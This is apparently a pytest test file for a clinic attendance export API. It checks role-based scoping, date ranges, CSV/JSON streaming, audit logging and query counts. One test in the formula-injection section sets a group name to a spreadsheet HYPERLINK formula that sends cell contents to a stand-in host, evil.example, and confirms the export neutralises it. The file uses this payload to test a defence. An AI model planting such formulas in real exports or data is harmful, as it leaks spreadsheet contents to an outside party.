"""/api/v1/exports/attendance/: attendance rows for a date range, as CSV or JSON, streamed.

Scope: a clinic admin exports their clinic, a facilitator the sessions they run, a member
their own rows; nothing of another group or clinic ever appears. The export streams from a
chunked cursor (the first bytes leave before the rows are all read) in a constant number of
queries, and is written to the audit log before the first byte.
"""

import csv
import datetime as dt
import io
import json

import pytest
from django.db.models.sql import compiler
from rest_framework.test import APIClient

from members.enums import Role
from members.models import AuditEntry
from members.services import api_token_issue
from sessions.api.exports.serializers import (
    FORMULA_TRIGGERS,
    AttendanceExportRowSerializer,
    csv_cell,
)
from sessions.enums import AttendanceStatus, EnrolmentStatus
from sessions.models import Attendance, SessionFacilitator
from sessions.selectors import exports as export_selectors
from sessions.selectors.exports import ATTENDANCE_EXPORT_COLUMNS
from tests.api.world import signed_in
from tests.factories.members import ClinicRoleFactory, MemberFactory
from tests.factories.sessions import EnrolmentFactory, GroupFactory, GroupSessionFactory

pytestmark = pytest.mark.django_db

URL = "/api/v1/exports/attendance/"
UTC = dt.UTC

# Riverside (the world's clinic) is in Europe/London: British Summer Time in June.
JUNE_2 = dt.datetime(2026, 6, 2, 17, 0, tzinfo=UTC)  # 18:00 in London
JUNE_4 = dt.datetime(2026, 6, 4, 17, 0, tzinfo=UTC)
JUNE = {"from": "2026-06-01", "to": "2026-06-30"}


def _attend(session, member, status=AttendanceStatus.PRESENT, minutes=None, by=None):
    return Attendance.objects.create(
        session=session,
        member=member,
        status=status,
        minutes_attended=minutes,
        recorded_by=by or session.group.lead_facilitator,
        recorded_at=session.end + dt.timedelta(minutes=30),
    )


class Register:
    """Attendance in June: ``group`` on the 2nd (Alex present, Cy late), ``other_group`` on
    the 4th (Bo absent), and a session of the other clinic (Dana present)."""

    def __init__(self, world):
        w = world
        self.session = GroupSessionFactory(group=w.group, start=JUNE_2)
        self.other_session = GroupSessionFactory(group=w.other_group, start=JUNE_4)
        self.cy = MemberFactory(clinic=w.clinic, preferred_name="Cy", legal_name="Cyrus Vale")
        EnrolmentFactory(
            group=w.group, member=self.cy, status=EnrolmentStatus.ACTIVE, joined_on=JUNE_2.date()
        )
        self.alex_row = _attend(self.session, w.member_record)
        self.cy_row = _attend(self.session, self.cy, AttendanceStatus.LATE, minutes=60)
        self.bo_row = _attend(self.other_session, w.other_member_record, AttendanceStatus.ABSENT)

        far_group = GroupFactory(clinic=w.other_clinic, name="Hillside Group")
        self.far_session = GroupSessionFactory(group=far_group, start=JUNE_2)
        self.dana = MemberFactory(
            clinic=w.other_clinic, preferred_name="Dana", legal_name="Dana Hill"
        )
        self.far_row = _attend(self.far_session, self.dana)


@pytest.fixture
def register(world):
    return Register(world)


def _row(attendance, *, legal_name=True, staff=True, tz="+01:00"):
    """The export row of ``attendance`` (a London session in June unless ``tz`` says), as
    the clinic's staff get it (``staff``) or as the member themself does."""
    session, member = attendance.session, attendance.member
    offset = dt.timezone(dt.timedelta(hours=int(tz[:3]), minutes=int(tz[4:])))
    return {
        "session_id": session.pk,
        "session_date": session.start.astimezone(offset).date().isoformat(),
        "session_start": session.start.astimezone(offset).isoformat(),
        "session_end": session.end.astimezone(offset).isoformat(),
        "session_status": session.status,
        "clinic_id": session.group.clinic_id,
        "group_id": session.group_id,
        "group_name": session.group.name,
        "billing_code": session.group.billing_code if staff else None,
        "member_id": member.pk,
        "member_name": member.preferred_name,
        "member_legal_name": member.legal_name if legal_name else None,
        "attendance_status": attendance.status,
        "minutes_attended": attendance.minutes_attended,
        "recorded_at": attendance.recorded_at.astimezone(offset).isoformat(),
    }


def _json(response):
    assert response.status_code == 200, response.content[:500]
    assert response.streaming
    assert response["Content-Type"] == "application/json"
    return json.loads(b"".join(response.streaming_content))


def _csv(response):
    assert response.status_code == 200, response.content[:500]
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text)))


# --- the shape of a row ----------------------------------------------------------------


def test_a_row_has_the_documented_columns_in_order(world, api, register):
    rows = _json(signed_in(api, world.users["facilitator"]).get(URL, JUNE))

    assert tuple(AttendanceExportRowSerializer().fields) == ATTENDANCE_EXPORT_COLUMNS
    assert [tuple(row) for row in rows] == [ATTENDANCE_EXPORT_COLUMNS] * 2


def test_a_row_gives_local_times_with_their_offset(world, api, register):
    rows = _json(signed_in(api, world.users["member"]).get(URL, JUNE))

    assert rows == [
        {
            "session_id": register.session.pk,
            "session_date": "2026-06-02",
            "session_start": "2026-06-02T18:00:00+01:00",
            "session_end": "2026-06-02T19:30:00+01:00",
            "session_status": "scheduled",
            "clinic_id": world.clinic.pk,
            "group_id": world.group.pk,
            "group_name": "Tuesday Group",
            "billing_code": None,  # a member's own export: no billing code
            "member_id": world.member_record.pk,
            "member_name": "Alex",
            "member_legal_name": "Alexandra Stone",
            "attendance_status": "present",
            "minutes_attended": None,
            "recorded_at": "2026-06-02T20:00:00+01:00",
        }
    ]


# --- scope: who gets which rows ----------------------------------------------------------


def test_clinic_admin_exports_every_group_of_their_clinic_and_nothing_else(world, api, register):
    rows = _json(signed_in(api, world.users["admin"]).get(URL, JUNE))

    assert rows == [_row(register.alex_row), _row(register.cy_row), _row(register.bo_row)]


def test_facilitator_exports_their_own_groups_only(world, api, register):
    rows = _json(signed_in(api, world.users["facilitator"]).get(URL, JUNE))

    assert rows == [_row(register.alex_row), _row(register.cy_row)]


def test_other_facilitator_never_sees_the_group_they_do_not_run(world, api, register):
    rows = _json(signed_in(api, world.users["other_facilitator"]).get(URL, JUNE))

    assert rows == [_row(register.bo_row)]


def test_member_exports_their_own_rows_only(world, api, register):
    rows = _json(signed_in(api, world.users["member"]).get(URL, JUNE))

    assert rows == [_row(register.alex_row, staff=False)]


def test_other_member_never_sees_a_fellow_members_rows(world, api, register):
    rows = _json(signed_in(api, world.users["other_member"]).get(URL, JUNE))

    assert rows == [_row(register.bo_row, staff=False)]


def test_other_clinic_admin_exports_their_clinic_only(world, api, register):
    rows = _json(signed_in(api, world.users["other_clinic_admin"]).get(URL, JUNE))

    assert rows == [_row(register.far_row, tz="-04:00")]


def test_substitute_facilitator_gets_the_session_they_ran_without_legal_names(world, api, register):
    session = register.session
    SessionFacilitator.objects.create(
        session=session, facilitator=world.users["other_facilitator"], start=session.start,
        end=session.end,
    )  # fmt: skip

    rows = _json(signed_in(api, world.users["other_facilitator"]).get(URL, JUNE))

    assert rows == [
        _row(register.alex_row, legal_name=False),
        _row(register.cy_row, legal_name=False),
        _row(register.bo_row),
    ]


def test_a_person_with_roles_in_two_clinics_gets_both_scopes(world, api, register):
    admin = world.users["admin"]
    ClinicRoleFactory(user=admin, clinic=world.other_clinic, role=Role.ADMIN)

    rows = _json(signed_in(api, admin).get(URL, JUNE))

    assert [row["member_name"] for row in rows] == ["Alex", "Cy", "Dana", "Bo"]


def test_a_user_without_a_role_gets_an_empty_export(world, api, register, make_user):
    assert _json(signed_in(api, make_user()).get(URL, JUNE)) == []


# --- the group filter --------------------------------------------------------------------


def test_group_narrows_the_export_to_that_group(world, api, register):
    rows = _json(signed_in(api, world.users["admin"]).get(URL, {**JUNE, "group": world.group.pk}))

    assert rows == [_row(register.alex_row), _row(register.cy_row)]


def test_member_may_narrow_to_their_group_and_still_gets_only_their_rows(world, api, register):
    rows = _json(signed_in(api, world.users["member"]).get(URL, {**JUNE, "group": world.group.pk}))

    assert rows == [_row(register.alex_row, staff=False)]


@pytest.mark.parametrize("persona", ["other_facilitator", "other_member", "other_clinic_admin"])
def test_a_group_out_of_scope_is_404_like_one_that_does_not_exist(world, api, register, persona):
    client = signed_in(api, world.users[persona])

    hidden = client.get(URL, {**JUNE, "group": world.group.pk})
    missing = client.get(URL, {**JUNE, "group": 999_999})

    assert (hidden.status_code, hidden.json()) == (404, {"detail": "No such group."})
    assert (missing.status_code, missing.json()) == (404, {"detail": "No such group."})


def test_a_member_who_left_may_still_narrow_to_the_group_of_their_rows(world, api, register):
    world.enrolment.status = EnrolmentStatus.WITHDRAWN
    world.enrolment.save()

    rows = _json(signed_in(api, world.users["member"]).get(URL, {**JUNE, "group": world.group.pk}))

    assert rows == [_row(register.alex_row, staff=False)]


# --- dates -------------------------------------------------------------------------------


def test_dates_are_the_sessions_local_dates_in_their_clinic(world, api):
    group = GroupFactory(clinic=world.other_clinic)  # America/New_York
    # 02:00 UTC on the 2nd is 22:00 on the 1st in New York.
    session = GroupSessionFactory(group=group, start=dt.datetime(2026, 6, 2, 2, 0, tzinfo=UTC))
    row = _attend(session, MemberFactory(clinic=world.other_clinic))
    client = signed_in(api, world.users["other_clinic_admin"])

    first = _json(client.get(URL, {"from": "2026-06-01", "to": "2026-06-01"}))
    second = _json(client.get(URL, {"from": "2026-06-02", "to": "2026-06-02"}))

    assert first == [_row(row, tz="-04:00")]
    assert first[0]["session_start"] == "2026-06-01T22:00:00-04:00"
    assert second == []


def test_both_ends_of_the_range_are_included(world, api, register):
    client = signed_in(api, world.users["admin"])

    assert len(_json(client.get(URL, {"from": "2026-06-02", "to": "2026-06-02"}))) == 2
    assert len(_json(client.get(URL, {"from": "2026-06-02", "to": "2026-06-04"}))) == 3
    assert _json(client.get(URL, {"from": "2026-06-03", "to": "2026-06-03"})) == []


@pytest.mark.parametrize(
    ("query", "errors"),
    [
        ({"to": "2026-06-30"}, {"from": ["This field is required."]}),
        ({"from": "2026-06-01"}, {"to": ["This field is required."]}),
        ({"from": "", "to": "2026-06-30"}, {"from": ["Give a value, or leave out the parameter."]}),
        (
            {"from": "June", "to": "2026-06-30"},
            {"from": ["Date has wrong format. Use one of these formats instead: YYYY-MM-DD."]},
        ),
        (
            {"from": "2026-02-30", "to": "2026-06-30"},
            {"from": ["Date has wrong format. Use one of these formats instead: YYYY-MM-DD."]},
        ),
        (
            {"from": "2026-06-30", "to": "2026-06-01"},
            {"to": ["The last day cannot be before `from`."]},
        ),
        (
            {"from": "2026-01-01", "to": "2027-01-02"},
            {"to": ["An export covers at most 366 days; split the range."]},
        ),
        ({**JUNE, "group": "first"}, {"group": ["A valid integer is required."]}),
        ({**JUNE, "group": "0"}, {"group": ["Ensure this value is greater than or equal to 1."]}),
        (
            {**JUNE, "group": str(2**63)},
            {"group": ["Ensure this value is less than or equal to 9223372036854775807."]},
        ),
        ({**JUNE, "format": "xml"}, {"format": ['"xml" is not a valid choice.']}),
        ({**JUNE, "format": ""}, {"format": ["Give a value, or leave out the parameter."]}),
    ],
)
def test_an_invalid_parameter_is_a_400_naming_it(world, api, query, errors):
    response = signed_in(api, world.users["admin"]).get(URL, query)

    assert (response.status_code, response.json()) == (400, errors)
    assert response["Content-Type"] == "application/json"
    assert not AuditEntry.objects.filter(action="sessions.attendance.exported").exists()


def test_a_range_of_366_days_is_allowed(world, api, register):
    response = signed_in(api, world.users["admin"]).get(
        URL, {"from": "2026-01-01", "to": "2027-01-01"}
    )

    assert len(_json(response)) == 3


@pytest.mark.parametrize(
    ("first", "last"), [("0001-01-01", "0001-01-31"), ("9999-12-01", "9999-12-31")]
)
def test_the_ends_of_the_calendar_are_an_empty_export_not_an_error(world, api, first, last):
    client = signed_in(api, world.users["admin"])

    as_json = client.get(URL, {"from": first, "to": last})
    as_csv = client.get(URL, {"from": first, "to": last, "format": "csv"})

    assert _json(as_json) == []
    assert _csv(as_csv) == [list(ATTENDANCE_EXPORT_COLUMNS)]
    assert (
        as_csv["Content-Disposition"] == f'attachment; filename="attendance-{first}-to-{last}.csv"'
    )


# --- formats -----------------------------------------------------------------------------


def test_json_is_an_empty_array_when_the_range_holds_no_rows(world, api):
    response = signed_in(api, world.users["admin"]).get(URL, {**JUNE, "format": "json"})

    assert b"".join(response.streaming_content) == b"[]"


def test_json_with_rows_is_one_valid_array(world, api, register):
    response = signed_in(api, world.users["admin"]).get(URL, {**JUNE, "format": "json"})
    body = b"".join(response.streaming_content)

    assert json.loads(body) == [
        _row(register.alex_row),
        _row(register.cy_row),
        _row(register.bo_row),
    ]
    assert (body[:2], body[-2:]) == (b"[{", b"}]")


def test_format_csv_is_a_download_with_a_header_row(world, api, register):
    response = signed_in(api, world.users["facilitator"]).get(URL, {**JUNE, "format": "csv"})

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="attendance-2026-06-01-to-2026-06-30.csv"'
    )
    assert response["Cache-Control"] == "no-store"
    assert _csv(response) == [
        list(ATTENDANCE_EXPORT_COLUMNS),
        ["" if value is None else str(value) for value in _row(register.alex_row).values()],
        ["" if value is None else str(value) for value in _row(register.cy_row).values()],
    ]


def test_csv_of_one_group_says_so_in_the_file_name(world, api, register):
    query = {**JUNE, "format": "csv", "group": world.group.pk}
    response = signed_in(api, world.users["admin"]).get(URL, query)

    assert response["Content-Disposition"] == (
        f'attachment; filename="attendance-2026-06-01-to-2026-06-30-group-{world.group.pk}.csv"'
    )


def test_csv_of_an_empty_range_is_the_header_alone(world, api):
    response = signed_in(api, world.users["admin"]).get(URL, {**JUNE, "format": "csv"})

    assert _csv(response) == [list(ATTENDANCE_EXPORT_COLUMNS)]


def test_accept_text_csv_asks_for_csv_too(world, api, register):
    response = signed_in(api, world.users["admin"]).get(URL, JUNE, HTTP_ACCEPT="text/csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert len(_csv(response)) == 4


def test_errors_are_json_when_csv_was_asked_for(world, api):
    invalid = signed_in(api, world.users["admin"]).get(URL, {"from": "June", "format": "csv"})
    anonymous = APIClient().get(URL, {**JUNE, "format": "csv"})

    assert invalid.status_code == 400
    assert invalid["Content-Type"] == "application/json"
    assert set(invalid.json()) == {"from", "to"}
    assert anonymous.status_code == 401
    assert anonymous["Content-Type"] == "application/json"
    assert anonymous.json() == {"detail": "Authentication credentials were not provided."}


def test_a_bearer_token_exports_too(world, api, register):
    _, raw = api_token_issue(user=world.users["admin"], name="billing script")
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {raw}")

    assert len(_csv(api.get(URL, {**JUNE, "format": "csv"}))) == 4


# --- formula injection -------------------------------------------------------------------


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_a_cell_starting_a_formula_gets_an_apostrophe(trigger):
    assert csv_cell(f"{trigger}SUM(A1:A9)") == f"'{trigger}SUM(A1:A9)"


@pytest.mark.parametrize(
    ("value", "cell"), [("Alex", "Alex"), (None, ""), (60, "60"), ("a=b", "a=b")]
)
def test_other_cells_are_written_as_they_are(value, cell):
    assert csv_cell(value) == cell


def test_csv_export_neutralises_formulas_in_names(world, api, register):
    world.group.name = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    world.group.save()
    cy = register.cy
    cy.preferred_name, cy.legal_name = "+Cy", "@Cyrus\tVale"
    cy.save()
    world.member_record.preferred_name = "-Alex"
    world.member_record.legal_name = "\tAlexandra"
    world.member_record.save()

    table = _csv(signed_in(api, world.users["facilitator"]).get(URL, {**JUNE, "format": "csv"}))

    columns = table[0]
    cells = [
        (row[columns.index("group_name")], row[columns.index("member_name")],
         row[columns.index("member_legal_name")])
        for row in table[1:]
    ]  # fmt: skip
    formula = '\'=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    assert cells == [
        (formula, "'+Cy", "'@Cyrus\tVale"),
        (formula, "'-Alex", "'\tAlexandra"),
    ]


def test_json_export_keeps_names_as_they_are(world, api, register):
    world.member_record.preferred_name = "=Alex"
    world.member_record.save()

    rows = _json(signed_in(api, world.users["member"]).get(URL, JUNE))

    assert rows[0]["member_name"] == "=Alex"


# --- audit -------------------------------------------------------------------------------


def test_the_export_is_audited_before_the_first_byte(world, api, register):
    response = signed_in(api, world.users["admin"]).get(URL, {**JUNE, "format": "csv"})

    # Nothing of the body has been read yet.
    entry = AuditEntry.objects.get(action="sessions.attendance.exported")
    assert (entry.actor, entry.clinic, entry.object_type, entry.object_id) == (
        world.users["admin"],
        world.clinic,
        "",
        "",
    )
    assert entry.ip_address == "127.0.0.1"
    assert response.streaming
    header, *rows = _csv(response)
    shown = sorted({int(row[header.index("member_id")]) for row in rows})
    assert shown
    assert entry.data == {
        "from": "2026-06-01",
        "to": "2026-06-30",
        "group_id": None,
        "format": "csv",
        "member_ids": shown,
    }


def test_an_export_of_one_group_is_audited_on_that_group(world, api, register):
    query = {**JUNE, "group": world.group.pk}
    response = signed_in(api, world.users["member"]).get(URL, query)

    entry = AuditEntry.objects.get(action="sessions.attendance.exported")
    assert (entry.actor, entry.clinic, entry.object_type, entry.object_id) == (
        world.users["member"],
        world.clinic,
        "group_sessions.group",
        str(world.group.pk),
    )
    assert entry.data == {
        "from": "2026-06-01",
        "to": "2026-06-30",
        "group_id": world.group.pk,
        "format": "json",
        "member_ids": sorted({row["member_id"] for row in _json(response)}),
    }
    assert entry.data["member_ids"] == [world.member_record.pk]


def test_an_export_reaching_two_clinics_is_audited_in_each(world, api):
    admin = world.users["admin"]
    ClinicRoleFactory(user=admin, clinic=world.other_clinic, role=Role.MEMBER)

    signed_in(api, admin).get(URL, JUNE)

    entries = AuditEntry.objects.filter(action="sessions.attendance.exported")
    assert sorted(entry.clinic_id for entry in entries) == sorted(
        [world.clinic.pk, world.other_clinic.pk]
    )


def test_an_export_by_someone_without_a_role_is_audited_without_a_clinic(api, make_user):
    user = make_user()

    signed_in(api, user).get(URL, JUNE)

    entry = AuditEntry.objects.get(action="sessions.attendance.exported")
    assert (entry.actor, entry.clinic) == (user, None)


def test_a_refused_export_is_not_audited(world, api, register):
    signed_in(api, world.users["other_member"]).get(URL, {**JUNE, "group": world.group.pk})

    assert not AuditEntry.objects.filter(action="sessions.attendance.exported").exists()


def test_the_audit_entry_carries_no_names(world, api, register):
    signed_in(api, world.users["admin"]).get(URL, {**JUNE, "group": world.group.pk})

    data = json.dumps(AuditEntry.objects.get(action="sessions.attendance.exported").data)
    for name in ("Tuesday Group", "Alex", "Alexandra Stone", "Cy", "Cyrus Vale"):
        assert name not in data


# --- streaming and queries ---------------------------------------------------------------


def _many_rows(world, count):
    """``count`` attendance rows in ``group`` on June 2nd: one session, ``count`` members."""
    session = GroupSessionFactory(group=world.group, start=JUNE_2)
    members = MemberFactory.create_batch(count, clinic=world.clinic)
    Attendance.objects.bulk_create(
        Attendance(
            session=session,
            member=member,
            status=AttendanceStatus.PRESENT,
            recorded_by=world.users["facilitator"],
            recorded_at=session.end,
        )
        for member in members
    )


@pytest.mark.parametrize("export_format", ["csv", "json"])
def test_the_response_streams_the_first_rows_before_the_last_is_read(
    world, api, monkeypatch, export_format
):
    """Rows come from the cursor five at a time; after the first chunk of the body only the
    first five of fifty rows have been fetched from the database."""
    _many_rows(world, 50)
    monkeypatch.setattr(export_selectors, "EXPORT_CHUNK_SIZE", 5)
    fetched: list[int] = []
    real_cursor_iter = compiler.cursor_iter

    def counting_cursor_iter(cursor, sentinel, col_count, itersize):
        for block in real_cursor_iter(cursor, sentinel, col_count, itersize):
            if itersize == 5:
                fetched.append(len(block))
            yield block

    monkeypatch.setattr(compiler, "cursor_iter", counting_cursor_iter)
    response = signed_in(api, world.users["admin"]).get(URL, {**JUNE, "format": export_format})
    assert response.streaming
    assert fetched == []  # the query has not even run yet

    chunks = iter(response.streaming_content)
    first = next(chunks)

    assert fetched == [5]
    if export_format == "json":  # the opening bracket and the first row
        assert len(json.loads(first + b"]")) == 1
    else:  # the header and the first row
        assert len(list(csv.reader(io.StringIO(first.decode())))) == 2
    rest = b"".join(chunks)
    assert fetched == [5] * 10
    body = first + rest
    if export_format == "json":
        assert len(json.loads(body)) == 50
    else:
        assert len(list(csv.reader(io.StringIO(body.decode())))) == 51


def test_a_large_export_leaves_in_several_chunks(world, api, monkeypatch):
    from sessions.api.exports import serializers as export_serializers

    _many_rows(world, 50)
    monkeypatch.setattr(export_serializers, "STREAM_FLUSH_CHARS", 1000)

    response = signed_in(api, world.users["admin"]).get(URL, {**JUNE, "format": "json"})
    chunks = list(response.streaming_content)

    assert len(chunks) > 5
    assert max(len(chunk) for chunk in chunks[:-1]) < 2000
    assert len(json.loads(b"".join(chunks))) == 50


@pytest.mark.parametrize("size", [1, 50])
@pytest.mark.parametrize("export_format", ["csv", "json"])
def test_an_export_runs_the_same_queries_for_1_or_50_rows(
    world, api, django_assert_num_queries, size, export_format
):
    """Session and user (2), the clinics to audit (1), the members the export holds (1),
    savepoint, audit entry (chain head lock, insert, head update) and release (5), the
    rows (1)."""
    _many_rows(world, size)
    client = signed_in(api, world.users["admin"])

    with django_assert_num_queries(10):
        response = client.get(URL, {**JUNE, "format": export_format})
        body = b"".join(response.streaming_content)

    assert body.count(b"Tuesday Group") == size


def test_an_export_of_one_group_runs_as_many_queries(world, api, django_assert_num_queries):
    """The group's lookup (with its clinic) takes the place of the clinics' lookup."""
    _many_rows(world, 5)
    client = signed_in(api, world.users["facilitator"])

    with django_assert_num_queries(10):
        response = client.get(URL, {**JUNE, "group": world.group.pk})
        assert len(json.loads(b"".join(response.streaming_content))) == 5


# --- schema ------------------------------------------------------------------------------


def test_the_schema_documents_parameters_formats_and_errors(api):
    schema = api.get("/api/schema/", {"format": "json"}).json()
    operation = schema["paths"][URL]["get"]

    assert {(p["name"], p.get("required", False)) for p in operation["parameters"]} == {
        ("from", True),
        ("to", True),
        ("group", False),
        ("format", False),
    }
    assert sorted(operation["responses"]) == ["200", "400", "401", "404"]
    content = operation["responses"]["200"]["content"]
    assert content["text/csv"]["schema"] == {"type": "string"}
    assert content["application/json"]["schema"] == {
        "type": "array",
        "items": {"$ref": "#/components/schemas/AttendanceExportRow"},
    }
    row = schema["components"]["schemas"]["AttendanceExportRow"]
    assert tuple(row["properties"]) == ATTENDANCE_EXPORT_COLUMNS
    assert row["properties"]["member_legal_name"]["nullable"] is True
    for status in ("400", "401", "404"):
        assert list(operation["responses"][status]["content"]) == ["application/json"]
